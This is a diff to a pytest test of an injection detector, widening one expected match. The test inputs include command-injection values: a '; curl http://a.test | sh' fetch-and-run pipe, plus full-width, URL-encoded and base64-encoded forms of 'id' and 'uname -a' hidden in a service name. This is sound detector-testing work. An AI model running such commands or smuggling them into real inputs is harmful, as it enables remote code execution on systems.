@@ -177,7 +177,7 @@ def test_ordinary_text_passes(check: InjectionCheck, text: str) -> None:
 @pytest.mark.parametrize(
     ("text", "part"),
     [
-        ("nginx; curl http://a.test | sh", "; curl http://a.test"),
+        ("nginx; curl http://a.test | sh", "; curl http://a.test | sh"),
         ("nginx\u200b；ｉｄ", "；ｉｄ"),
         ("up %3B%20uname%20-a", "%3B%20uname%20-a"),
         ("service O3VuYW1lIC1h", "O3VuYW1lIC1h"),
